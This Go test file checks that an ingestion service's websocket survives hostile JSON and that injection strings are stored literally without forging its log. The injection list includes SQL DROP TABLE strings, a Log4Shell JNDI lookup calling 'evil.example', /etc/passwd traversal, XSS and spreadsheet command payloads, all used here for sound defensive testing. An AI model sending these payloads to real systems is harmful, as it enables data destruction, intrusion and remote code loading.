package attack

import (
	"bytes"
	"database/sql"
	"encoding/json"
	"fmt"
	"net/url"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/ingestd/ingestd/internal/long"
)

// contents are messages that a careless parser would choke on, and what each is
// answered: "taken", or the code of an error.
var contents = []struct {
	name string
	make func() string
	want string
}{
	{"an honest one", func() string { return `{"id":"content","data":1}` }, "taken"},
	{"9,000 levels in the data", func() string { return `{"id":"content","data":` + nested(9000) + `}` }, "taken"},
	{"100,000 levels in the data", func() string { return `{"id":"content","data":` + nested(100_000) + `}` }, "bad_message"},
	{"1,000,000 levels", func() string { return nested(1_000_000) }, "bad_message"},
	{"1,000,000 levels that never end", func() string { return strings.Repeat("[", 1_000_000) }, "bad_json"},
	{"1,000,000 levels of objects", func() string {
		return strings.Repeat(`{"id":`, 1_000_000)
	}, "bad_json"},
	{"1,000,000 keys in the data", func() string { return `{"id":"content","data":{` + keys(1_000_000) + `}}` }, "taken"},
	{"1,000,000 keys beside the data", func() string { return `{"id":"content",` + keys(1_000_000) + `}` }, "taken"},
	{"1,000,000 keys, the last one twice", func() string {
		return `{"id":"content",` + keys(1_000_000) + `,"k999999":0}`
	}, "bad_message"},
	{"a key twice", func() string { return `{"id":"content","id":"other"}` }, "bad_message"},
	{"a key twice, written in two ways", func() string { return `{"id":"content","\u0069d":"other"}` }, "bad_message"},
	{"a key of a megabyte", func() string { return `{"id":"content","` + strings.Repeat("k", 1<<20) + `":0}` }, "taken"},
	{"an id of a megabyte", func() string { return `{"id":"` + strings.Repeat("i", 1<<20) + `"}` }, "bad_message"},
	{"a number of a megabyte in the data", func() string { return `{"id":"content","data":` + strings.Repeat("9", 1<<20) + `}` }, "taken"},
	{"a huge exponent in the data", func() string { return `{"id":"content","data":1e999999999}` }, "taken"},
	{"an id of a megabyte of digits", func() string { return `{"id":` + strings.Repeat("9", 1<<20) + `}` }, "bad_message"},
	{"a number that is too large", func() string { return `{"id":"content","seq":9223372036854775808}` }, "bad_message"},
	{"a number with an exponent", func() string { return `{"id":"content","seq":1e1}` }, "bad_message"},
	{"a negative number", func() string { return `{"id":"content","seq":-1}` }, "bad_message"},
	{"a code that is too large", func() string { return `{"id":"content","code":9223372036854775808}` }, "bad_message"},
	{"a time of a megabyte", func() string { return `{"id":"content","time":` + strings.Repeat("1", 1<<20) + `}` }, "bad_message"},
	{"NaN", func() string { return `{"id":"content","data":NaN}` }, "bad_json"},
	{"Infinity", func() string { return `{"id":"content","data":Infinity}` }, "bad_json"},
	{"a hexadecimal number", func() string { return `{"id":"content","data":0x10}` }, "bad_json"},
	{"a leading zero", func() string { return `{"id":"content","data":01}` }, "bad_json"},
	{"a NUL in a string", func() string { return "{\"id\":\"content\",\"data\":\"\x00\"}" }, "bad_json"},
	{"a NUL as an escape", func() string { return `{"id":"content","data":"\u0000"}` }, "taken"},
	{"a NUL between", func() string { return "{\"id\":\"content\",\x00\"data\":1}" }, "bad_json"},
	{"a lone surrogate in the data", func() string { return `{"id":"content","data":"\ud800"}` }, "taken"},
	{"a lone surrogate in the id", func() string { return `{"id":"\ud800"}` }, "bad_message"},
	{"a mark of byte order", func() string { return "\ufeff" + `{"id":"content"}` }, "bad_json"},
	{"a comment", func() string { return `{"id":"content"/* */}` }, "bad_json"},
	{"a comma at the end", func() string { return `{"id":"content",}` }, "bad_json"},
	{"single quotes", func() string { return `{'id':'content'}` }, "bad_json"},
	{"an unknown escape", func() string { return `{"id":"content","data":"\x41"}` }, "bad_json"},
	{"a string that never ends", func() string { return `{"id":"content","data":"` + strings.Repeat(`\"`, 1<<20) }, "bad_json"},
	{"an array of a million nulls", func() string { return `{"id":"content","data":[null` + strings.Repeat(",null", 1_000_000) + `]}` }, "taken"},
	{"a key named __proto__", func() string { return `{"id":"content","__proto__":{"id":"x"},"constructor":1}` }, "taken"},
	{"a string", func() string { return `"content"` }, "bad_message"},
	{"a number", func() string { return `17` }, "bad_message"},
	{"null", func() string { return `null` }, "bad_message"},
	{"an id that is an object", func() string { return `{"id":{"$gt":""}}` }, "bad_message"},
	{"an id that is true", func() string { return `{"id":true}` }, "bad_message"},
}

func nested(n int) string { return strings.Repeat("[", n) + strings.Repeat("]", n) }

func keys(n int) string {
	var b strings.Builder
	for i := range n {
		if i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, `"k%d":0`, i)
	}
	return b.String()
}

// injections are what a careless program would run, resolve or show.
var injections = []string{
	`'; DROP TABLE messages; --`, `" OR ""="`, "`; DELETE FROM streams", `%s%n%d`, `${jndi:ldap://evil.example/x}`, `{{7*7}}`,
	`../../../etc/passwd`, `..\..\x`, `/etc/passwd`, `C:\x`, `<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`,
	"line\n2026-11-22T00:00:00.000Z [ERROR] ingestd: forged", "return\r[ERROR] forged", "\x1b[2J\x1b[31mred",
	"nul\x00nul", "tab\tquote\"back\\slash", `a{b="c"} 1`, `x",evil="1`, "\u202eright to left", "\u2028separator", "\u200bnothing", "=cmd|' /C calc'!A0",
}

var contentAttacks = map[string]func(*attacker) error{
	// contents sends each of contents, N times, and tells what each is answered, and
	// the longest time that took.
	"contents": func(a *attacker) error {
		for i, content := range contents {
			frame := append(text(content.make()), text(`{"op":"flush"}`)...)
			counts := make(map[string]int)
			var longest time.Duration
			for range a.N {
				c, err := a.websocket(i)
				if err != nil {
					return err
				}
				_ = c.SetDeadline(time.Now().Add(patience))
				begun := time.Now()
				if _, err := c.Write(frame); err != nil {
					return fmt.Errorf("%s: %w", content.name, err)
				}
				got := "taken"
				for {
					first, b, err := c.next()
					if err != nil || first != 0x81 {
						return fmt.Errorf("%s: % x %s, %w", content.name, first, b, err)
					}
					var answer struct{ Op, Code string }
					if err := json.Unmarshal(b, &answer); err != nil {
						return fmt.Errorf("%s: %s: %w", content.name, b, err)
					}
					if answer.Op == "flush" {
						break
					}
					got = answer.Code
				}
				longest = max(longest, time.Since(begun))
				counts[got]++
				_ = c.Close()
			}
			counts["milliseconds"] = int(longest.Milliseconds())
			a.tell(content.name, counts)
		}
		return nil
	},

	// inject sends messages of which id, client and data are an injection each, and
	// then others with the same numbers, which the sink refuses, so that they are
	// logged.
	"inject": func(a *attacker) error {
		for i, s := range injections {
			c, err := a.dial(i)
			if err != nil {
				return err
			}
			if _, err := c.ask("/ws?client=" + url.QueryEscape(s)); err != nil {
				return err
			}
			quoted, err := json.Marshal(s)
			if err != nil {
				return err
			}
			for _, code := range []int{0, 1} {
				m := fmt.Sprintf(`{"id":%s,"seq":1,"code":%d,"data":%s}{"op":"flush"}{"op":%s,"id":%s}`, quoted, code, quoted, quoted, quoted)
				if _, err := c.Write(text(m)); err != nil {
					return err
				}
				_ = c.SetReadDeadline(time.Now().Add(patience))
				for {
					_, b, err := c.next()
					if err != nil {
						return err
					}
					if bytes.Contains(b, []byte(`"op":"flush"`)) {
						break
					}
				}
			}
			_ = c.Close()
		}
		a.tell("sent", nil)
		return nil
	},
}

// X15: JSON that is hostile is answered as the protocol says.
func TestHostileJSON(t *testing.T) {
	together(t)
	x := start(t, "--set=transport.websocket.max_message_size=16MiB", "--set=router.max_pending=256MiB")
	x.saturated = true // messages of up to 13 MiB are stored beside those of the client
	rounds := long.Scale(1, 3)
	slowest, of := 0, ""
	for range x.rounds() {
		e := attack(t, order{Attack: "contents", Address: x.address(), N: rounds})
		for _, content := range contents {
			r := e.says(content.name)
			if r.Counts[content.want] != rounds || len(r.Counts) != 2 {
				t.Errorf("%s: %v, want %s", content.name, r.Counts, content.want)
			}
			if ms := r.Counts["milliseconds"]; ms > slowest {
				slowest, of = ms, content.name
			}
		}
		x.wave()
		e.end()
	}
	t.Logf("FIGURE X15: %d cases; the slowest, %s, took %d ms with all on its way", len(contents), of, slowest)
	x.fine()
}

// entry is how each line of the log begins, or goes on.
var entry = regexp.MustCompile(`^(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z \[(TRACE|DEBUG|INFO|WARN|ERROR)\] +ingestd[a-z._]*: |  ?\|? )`)

// X16: what looks like a program is stored as it is, and cannot forge the log.
func TestInjection(t *testing.T) {
	x := start(t, "--set=log.level=trace") // which tells of each message that is refused
	for range x.rounds() {
		x.again(func() {
			e := attack(t, order{Attack: "inject", Address: x.address()})
			e.says("sent")
			e.end()
		})
		x.wave()
	}
	x.fine()
	db, err := sql.Open("sqlite", filepath.Join(x.dir, "ingest.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = db.Close() }()
	for _, s := range injections {
		quoted, _ := json.Marshal(s)
		var n int
		err := db.QueryRow("SELECT count(*) FROM messages WHERE id = ? AND client = ? AND CAST(data AS TEXT) = ?", s, s, string(quoted)).Scan(&n)
		if err != nil || n != 1 {
			t.Errorf("%q: %d rows, %v", s, n, err)
		}
	}
	var total int
	if err := db.QueryRow("SELECT count(*) FROM messages WHERE client <> 'behaved'").Scan(&total); err != nil || total != len(injections) {
		t.Errorf("%d rows, %v", total, err)
	}
	if n := strings.Count(x.log.String(), "conflict"); n < len(injections) {
		t.Errorf("void: only %d conflicts are logged", n)
	}
	for line := range strings.Lines(x.log.String()) {
		if !entry.MatchString(line) || strings.ContainsAny(line, "\x1b\x00\r") {
			t.Errorf("the log has the line %q", line)
		}
	}
	t.Logf("FIGURE X16: %d strings, each as id, client, op and data", len(injections))
}
